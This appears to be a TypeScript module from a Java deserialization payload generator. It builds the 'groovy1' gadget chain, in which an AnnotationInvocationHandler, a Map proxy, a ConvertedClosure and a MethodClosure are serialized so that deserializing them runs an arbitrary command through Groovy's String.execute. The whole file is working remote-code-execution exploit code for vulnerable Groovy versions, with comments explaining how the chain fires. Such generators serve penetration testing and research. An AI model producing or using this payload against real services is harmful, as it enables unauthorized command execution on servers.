/**
 * generate_java_gadget's `groovy1` (Groovy 2.3.9 and before): an AnnotationInvocationHandler whose
 * member values are a proxy of java.util.Map handled by a ConvertedClosure for `entrySet`, over a
 * MethodClosure calling `execute` on the command's text. Reading the handler asks the map for its
 * entry set, which runs `command.execute()` (Groovy's String.execute, Runtime.exec underneath).
 * Groovy 2.4.4 stopped reading MethodClosure (and changed its serialVersionUID).
 */
import { GROOVY_2_3 as GROOVY, JAVA, JDK } from './java-classes.js';
import { JavaObjectStream } from './java-serialization.js';

/** ConcurrentHashMap's segments as JDK 7 wrote them, which JDK 8 and later still write and read. */
const SEGMENTS = 16;

/** An empty ConcurrentHashMap, as ConversionHandler's cache. */
function writeEmptyConcurrentHashMap(stream: JavaObjectStream): void {
  const map = JDK.concurrentHashMap;
  stream.object(map).fields(map, {
    segmentMask: (s) => s.i32(SEGMENTS - 1),
    segmentShift: (s) => s.i32(28),
    segments: (s) =>
      s.array(
        JDK.segmentArray,
        Array.from({ length: SEGMENTS }, () => (segment: JavaObjectStream) => {
          segment.object(JDK.segment);
          // ReentrantLock.sync: an unlocked NonfairSync (AbstractQueuedSynchronizer.state 0)
          segment.object(JDK.nonfairSync).i32(0);
          segment.f32(0.75);
        }),
      ),
  });
  // ConcurrentHashMap.writeObject: no entries, then the null key and value that end them
  stream.null().null().endBlockData();
}

export function groovy1Gadget(command: string): Buffer {
  const stream = new JavaObjectStream();
  const handler = JDK.annotationInvocationHandler;
  stream.object(handler).fields(handler, {
    memberValues: (s) => {
      s.proxyObject(['java.util.Map'], JDK.proxy);
      s.fields(JDK.proxy, {
        h: (h) => {
          const converted = GROOVY.convertedClosure;
          h.object(converted);
          h.fields(converted.superclass, {
            delegate: (d) => {
              const closure = GROOVY.methodClosure;
              d.object(closure);
              let owner = 0;
              d.fields(closure.superclass, {
                directive: (f) => f.i32(0),
                maximumNumberOfParameters: (f) => f.i32(2),
                resolveStrategy: (f) => f.i32(0),
                bcw: (f) => f.null(),
                delegate: (f) => {
                  f.string(command);
                  owner = f.lastHandle;
                },
                owner: (f) => f.reference(owner),
                // execute(String[] environment, File directory)
                parameterTypes: (f) =>
                  f.array(JAVA.classArray, [
                    (c) => c.classObject(JAVA.stringArray),
                    (c) => c.classObject(JDK.file),
                  ]),
                thisObject: (f) => f.null(),
              });
              d.fields(closure, { method: (f) => f.string('execute') });
            },
            handleCache: writeEmptyConcurrentHashMap,
          });
          h.fields(converted, { methodName: (f) => f.string('entrySet') });
        },
      });
    },
    type: (s) => s.classObject(JDK.override),
  });
  return stream.toBuffer();
}
